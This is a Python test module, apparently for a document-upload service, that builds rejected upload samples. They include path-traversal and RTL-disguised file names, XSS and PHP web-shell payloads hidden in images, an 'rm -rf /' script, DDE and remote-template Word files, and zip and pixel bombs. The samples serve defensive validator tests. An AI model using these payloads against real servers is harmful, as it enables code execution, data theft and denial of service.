"""Files that nobody may be given: broken, disguised, with something in them, or made to exhaust the server."""

import io
import struct
import zipfile
import zlib
from functools import cache

from tests.antraege.dateien import bausteine as b
from tests.antraege.dateien import pdfbau
from tests.antraege.dateien.bausteine import Upload

SEITE = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
LIMIT = 20 * 1024 * 1024


def namen() -> list[Upload]:
    good = b.jpeg()
    return [
        Upload("Pfad nach oben", "../../etc/passwd.jpg", good, "name"),
        Upload("Pfad nach oben, Windows", r"..\..\windows\system.jpg", good, "name"),
        Upload("Pfad von der Wurzel", "/etc/bild.jpg", good, "name"),
        Upload("umgedrehte Schrift", "Rechnung\u202egpj.exe", good, "name"),
        Upload("umgedrehte Schrift, isoliert", "Rechnung\u2067gpj.jpg", good, "name"),
        Upload("NUL im Namen", "bild.php\0.jpg", good, "name"),
        Upload("Zeilenende im Namen", "bild\r\nSet-Cookie: a=b.jpg", good, "name"),
        Upload("Escape im Namen", "bild\x1b[31m.jpg", good, "name"),
        Upload("halbes Zeichen", "bild\ud800.jpg", good, "name"),
        Upload("300 Zeichen", "n" * 296 + ".jpg", good, "name_zu_lang"),
        Upload("300 Byte aus Emojis", "🏖" * 75 + ".jpg", good, "name_zu_lang"),
        Upload("Endung eines Programms", "rechnung.jpg.exe", good, "endung"),
        Upload("Endung einer Seite", "bild.html", good, "endung"),
        Upload("Endung SVG", "bild.svg", b.png(), "endung"),
    ]


def groessen() -> list[Upload]:
    good = b.jpeg()
    return [
        Upload("leer", "leer.pdf", b"", "leer"),
        Upload("ein Byte zu viel", "gross.jpg", good + bytes(LIMIT + 1 - len(good)), "zu_gross"),
        Upload("zu groß angekündigt", "gross.jpg", good, "zu_gross", groesse=LIMIT + 1),
        Upload("kleiner angekündigt als gesandt", "gross.jpg", good + bytes(LIMIT), "zu_gross", groesse=10),
        Upload("mehr angekündigt als gesandt", "kurz.jpg", good, "unvollstaendig", groesse=len(good) + 1),
        Upload("weniger angekündigt als gesandt", "lang.jpg", good, "unvollstaendig", groesse=len(good) - 1),
    ]


def andere() -> list[Upload]:
    """What says by itself that it is nothing we take."""
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    return [
        Upload("EICAR", "eicar.com", b.EICAR, "schadprogramm"),
        Upload("EICAR als PDF", "eicar.pdf", b.EICAR + b"\n", "schadprogramm"),
        Upload("EICAR gezippt", "eicar.zip", b.pack([("eicar.com", b.EICAR)]), "archiv"),
        Upload("EICAR gezippt, unverpackt", "e.zip", b.pack([("e", b.EICAR)], stored=("e",)), "schadprogramm"),
        Upload("SVG mit Skript", "bild.svg", svg, "webseite"),
        Upload("SVG als PNG", "bild.png", b'<?xml version="1.0"?>' + svg, "webseite"),
        Upload("HTML als PDF", "antrag.pdf", SEITE, "webseite"),
        Upload("HTML mit Leerzeichen davor", "antrag.pdf", b"\xef\xbb\xbf \n" + SEITE, "webseite"),
        Upload("HTML als JPEG", "bild.jpg", b"Hallo <html><body>", "webseite"),
        Upload("Windows-Programm", "setup.pdf", b"MZ\x90\0" + bytes(300), "programm"),
        Upload("Linux-Programm", "run.jpg", b"\x7fELF\x02\x01\x01" + bytes(300), "programm"),
        Upload("Skript", "run.sh", b"#!/bin/sh\nrm -rf /\n", "programm"),
        Upload("Verknüpfung", "Rechnung.pdf.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(90), "programm"),
        Upload("altes Word", "brief.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(900), "altes_office"),
        Upload("Word mit Passwort", "brief.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(900), "altes_office"),
        Upload("RTF", "brief.rtf", rb"{\rtf1 Hallo}", "altes_office"),
        Upload(
            "Tabelle als Word", "t.docx", b.pack([("[Content_Types].xml", b"<a/>"), ("xl/workbook.xml", b"")]), "archiv"
        ),
        Upload("falsche Bytes", "bild.png", b"\x89PNX\r\n\x1a\n" + b.png()[8:], "typ"),
        Upload("Text", "notiz.txt", b"Guten Tag", "typ"),
        Upload("GIF", "bild.gif", b.saved(b.picture(mode="P"), "GIF"), "typ"),
        Upload("Film", "film.mp4", b.film(), "typ"),
        Upload("AVIF als HEIC", "bild.heic", b.saved(b.picture(), "AVIF"), "typ"),
        Upload("BigTIFF", "bild.tif", b"II+\0\x08\0\0\0" + bytes(64), "typ"),
        Upload("PNG als PDF", "scan.pdf", b.png(), "endung"),
        Upload("PDF als JPEG", "bild.jpg", pdfbau.classic(pdfbau.objects()), "endung"),
        Upload("RAR", "bilder.rar", b"Rar!\x1a\x07\x01\0" + bytes(90), "archiv"),
    ]


def bilder() -> list[Upload]:
    jpeg, png = b.jpeg(), b.png()
    heic_size = b.box(b"ispe", bytes(4) + struct.pack(">II", 40_000, 30_000))
    return [
        Upload("JPEG mit HTML dahinter", "bild.jpg", jpeg + SEITE, "fremdes"),
        Upload("JPEG mit HTML im Kommentar", "bild.jpg", b.with_segment(jpeg, 0xFE, SEITE), "fremdes"),
        Upload("JPEG mit PHP", "bild.jpg", b.with_segment(jpeg, 0xFE, b"<?php system($_GET[0]); ?>"), "fremdes"),
        Upload("JPEG mit PHP und Zeilenende", "a.jpg", b.with_segment(jpeg, 0xFE, b"<?php\nsystem(1);"), "fremdes"),
        Upload("PNG mit SVG", "a.png", b.png_of(9, 9, b.chunk(b"tEXt", b"a\0<svg onload=alert(1)>")), "fremdes"),
        Upload("JPEG mit HTML an der Naht", "a.jpg", _at_the_seam(), "fremdes"),
        Upload("JPEG mit ZIP dahinter", "bild.jpg", jpeg + b.pack([("a.exe", b"MZ")]), "fremdes"),
        Upload("JPEG und PDF zugleich", "bild.jpg", b.with_segment(jpeg, 0xFE, b"%PDF-1.4 1 0 obj"), "fremdes"),
        Upload("JPEG mit Programm dahinter", "bild.jpg", jpeg + b"MZ\x90" + bytes(50), "fremdes"),
        Upload("HTML in Samsungs Anhang", "bild.jpg", jpeg + SEITE + b"SEFT", "fremdes"),
        Upload("JPEG abgeschnitten", "bild.jpg", jpeg[:-200], "unvollstaendig"),
        Upload("JPEG nach dem Kopf abgeschnitten", "bild.jpg", jpeg[:30], "unvollstaendig"),
        Upload("JPEG mit Milliarden Punkten", "bild.jpg", _flooded_jpeg(), "zu_viele_punkte"),
        Upload("JPEG ohne Bild", "bild.jpg", b"\xff\xd8\xff\xd9", "beschaedigt"),
        Upload("JPEG aus lauter FF", "bild.jpg", b"\xff\xd8" + b"\xff" * 5_000_000, "beschaedigt"),
        Upload("PNG mit Milliarden Punkten", "bild.png", b.png_of(40_000, 30_000), "zu_viele_punkte"),
        Upload("PNG mit größter Seite", "bild.png", b.png_of(2**31 - 1, 2**31 - 1), "zu_viele_punkte"),
        Upload("PNG mit HTML dahinter", "bild.png", png + SEITE, "fremdes"),
        Upload("PNG mit Daten dahinter", "bild.png", png + b"geheim", "fremdes"),
        Upload("PNG mit ZIP im Text", "bild.png", b.png_of(9, 9) + b.pack([("a", b"b")]), "fremdes"),
        Upload("PNG abgeschnitten", "bild.png", png[:-20], "unvollstaendig"),
        Upload("PNG mit falscher Summe", "bild.png", png.replace(b"IDATx", b"IDATy"), "beschaedigt"),
        Upload("PNG mit Textbomben", "bild.png", b.png_of(9, 9, *[_text_bomb()] * 40), "zu_umfangreich"),
        Upload("TIFF im Kreis", "scan.tif", _round_tiff(), "unvollstaendig"),
        Upload("TIFF abgeschnitten", "scan.tif", b.saved(b.picture(), "TIFF")[:-3000], "unvollstaendig"),
        Upload("TIFF mit HTML", "scan.tif", b.saved(b.picture(), "TIFF") + SEITE, "fremdes"),
        Upload("TIFF mit Milliarden Punkten", "scan.tif", _tiff(40_000, 30_000), "zu_viele_punkte"),
        Upload("WebP abgeschnitten", "bild.webp", b.saved(b.picture(), "WEBP")[:-40], "unvollstaendig"),
        Upload("WebP mit Milliarden Punkten", "bild.webp", _webp(16_000, 16_000), "zu_viele_punkte"),
        Upload("WebP mit Programm dahinter", "bild.webp", b.saved(b.picture(), "WEBP") + b"MZ\x90", "fremdes"),
        Upload("HEIC abgeschnitten", "bild.heic", heic()[:-100], "unvollstaendig"),
        Upload("HEIC mit Milliarden Punkten", "bild.heic", _heic_of(heic_size), "zu_viele_punkte"),
        Upload("HEIC, zugeschnitten", "bild.heic", _trimmed_heic(), "unvollstaendig"),
        Upload("HEIC ohne Bild", "bild.heic", heic()[:40], "unvollstaendig"),
        Upload("Film als HEIC", "film.heic", heic() + b.box(b"moov", bytes(90)), "eingebettet"),
    ]


def _flooded_jpeg() -> bytes:
    content = b.jpeg()
    at = content.index(b"\xff\xc0") + 5
    return content[:at] + struct.pack(">HH", 60_000, 60_000) + content[at + 4 :]


def _text_bomb() -> bytes:
    return b.chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(900_000)))


def _tiff(width: int, height: int, following: int = 0) -> bytes:
    entries = ((256, width), (257, height), (258, 8), (259, 1), (262, 1), (273, 8), (278, height), (279, 1))
    body = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in entries)
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(entries)) + body + struct.pack("<I", following)


def _round_tiff() -> bytes:
    return _tiff(9, 9, following=8)


def _webp(width: int, height: int) -> bytes:
    size = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBPVP8X" + struct.pack("<I", 10) + bytes(4) + size + b"VP8L" + struct.pack("<I", 6) + b"/\0\0\0\0\0"
    return b"RIFF" + struct.pack("<I", len(body)) + body


@cache
def heic() -> bytes:
    import pillow_heif  # takes its time

    out = io.BytesIO()
    pillow_heif.from_pillow(b.picture(128, 96)).save(out, quality=50)
    return out.getvalue()


def _at_the_seam() -> bytes:
    """A word that begins before a full mebibyte and ends after it."""
    head = b.jpeg()[:-2]
    return head + bytes((1 << 20) - len(head) - 3) + b"<script>" + b"\xff\xd9"


def _trimmed_heic() -> bytes:
    """Cut off, and the last box made to fit."""
    content = heic()[:-100]
    at = content.index(b"mdat") - 4
    return content[:at] + struct.pack(">I", len(content) - at) + content[at + 4 :]


def _heic_of(size: bytes) -> bytes:
    content = heic()
    at = content.index(b"ispe") - 4
    return content[:at] + size + content[at + len(size) :]


def texte() -> list[Upload]:
    external = b.relations(b.relation("attachedTemplate", "https://boese.example/a.dotm", external=True))
    macros = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    enabled = "application/vnd.ms-word.document.macroEnabled.main+xml"
    server = b.relations(b.relation("attachedTemplate", "file://boese.example/a.dotm", external=True))
    page = b.relations(b.relation("aFChunk", "seite.html"))
    encrypted = "<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"
    event = (
        '<office:event-listeners><script:event-listener xlink:href="vnd.sun.star.script:a"/></office:event-listeners>'
    )
    good = b.docx()
    return [
        Upload("Makros in DOCM", "brief.docm", b.docx("x", ("word/vbaProject.bin", b"\xd0"), main=enabled), "makros"),
        Upload("Makros in DOCX", "brief.docx", b.docx("x", ("word/vbaProject.bin", b"x")), "makros"),
        Upload("Makros unter anderem Namen", "brief.docx", b.docx("x", ("word/a.bin", b"x"), types=macros), "makros"),
        Upload("ActiveX", "brief.docx", b.docx("x", ("word/activeX/activeX1.bin", b"x")), "makros"),
        Upload("DDE", "b.docx", b.docx(body="<w:instrText>DDEAUTO c:\\\\a.exe</w:instrText>"), "makros"),
        Upload("Vorlage aus dem Netz", "brief.docx", b.docx(links=external), "nachladen"),
        Upload(
            "eingebettetes Programm", "brief.docx", b.docx("x", ("word/embeddings/o.bin", b"MZ\x90")), "eingebettet"
        ),
        Upload(
            "eingebettetes Archiv", "b.docx", b.docx("x", ("word/media/a.png", b.pack([("a", b"b")]))), "eingebettet"
        ),
        Upload("Vorlage von fremdem Server", "brief.docx", b.docx(links=server), "nachladen"),
        Upload(
            "Internetseite in DOCX", "brief.docx", b.docx("x", ("word/seite.html", b"<p>"), links=page), "eingebettet"
        ),
        Upload("EICAR in DOCX", "brief.docx", b.docx("x", ("word/media/a.png", b.EICAR)), "schadprogramm"),
        Upload(
            "Entitäten-Bombe", "b.docx", b.docx("x", ("word/a.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a/>')), "fremdes"
        ),
        Upload("Entitäten in UTF-16", "b.docx", b.docx("x", ("word/a.xml", "<!ENTITY a>".encode("utf-16"))), "fremdes"),
        Upload(
            "Zip-Bombe in DOCX", "brief.docx", b.docx("x", ("word/media/a.png", bytes(60_000_000))), "zu_umfangreich"
        ),
        Upload(
            "Zip-Bombe unter der Grenze", "b.docx", b.docx("x", ("word/a.xml", bytes(40_000_000))), "zu_umfangreich"
        ),
        Upload("42 kB zu 4 GB", "bombe.docx", _overlapping(), "zu_umfangreich"),
        Upload("sich überdeckende Teile", "bombe.docx", _overlapping(small=True), "fremdes"),
        Upload(
            "tausende Teile", "b.docx", b.docx("x", *((f"word/{n}.xml", b"") for n in range(3000))), "zu_umfangreich"
        ),
        Upload("Teil außerhalb", "brief.docx", b.docx("x", ("../../x.xml", b"<a/>")), "fremdes"),
        Upload("Lüge über die Größe", "brief.docx", _lying(), "beschaedigt"),
        Upload("HTML vor dem Archiv", "brief.docx", SEITE + good, "webseite"),
        Upload("HTML hinter dem Archiv", "brief.docx", good + SEITE, "fremdes"),
        Upload("DOCX abgeschnitten", "brief.docx", good[:-400], "unvollstaendig"),
        Upload("DOCX mit verschlüsselten Teilen", "brief.docx", _flagged(good), "passwort"),
        Upload("Makros in ODT", "brief.odt", b.odt(("Basic/Standard/Module1.xml", b"<a/>")), "makros"),
        Upload("Skript in ODT", "brief.odt", b.odt(("Scripts/python/a.py", b"import os")), "makros"),
        Upload("Makro an Ereignis in ODT", "brief.odt", b.odt(body=event), "makros"),
        Upload("ODT mit Passwort", "brief.odt", b.odt(manifest=encrypted), "passwort"),
        Upload("ODT lädt nach", "b.odt", b.odt(body='<draw:image xlink:href="https://boese.example/a"/>'), "nachladen"),
    ]


def _overlapping(*, small: bool = False) -> bytes:
    """Many entries of the directory that all mean the same packed part."""
    size = 1_000 if small else 100_000_000
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<a/>")
        archive.writestr("word/document.xml", bytes(1000))
        first = archive.infolist()[1]
        for number in range(40):
            info = zipfile.ZipInfo(f"word/{number}.xml", b.ZEIT)
            info.header_offset, info.compress_size, info.CRC = first.header_offset, first.compress_size, first.CRC
            info.file_size, info.compress_type = size, zipfile.ZIP_DEFLATED
            archive.filelist.append(info)
            archive.NameToInfo[info.filename] = info
    return out.getvalue()


def _lying() -> bytes:
    """More comes out than is announced."""
    content = bytearray(b.docx("x" * 5000))
    at = content.rindex(b"word/document.xml") - 46 + 24
    content[at : at + 4] = struct.pack("<I", 100)
    return bytes(content)


def _flagged(content: bytes) -> bytes:
    """Each entry of the directory says that it is encrypted."""
    return content.replace(b"PK\x01\x02\x14\x03\x14\0\0\0", b"PK\x01\x02\x14\x03\x14\0\x01\0")
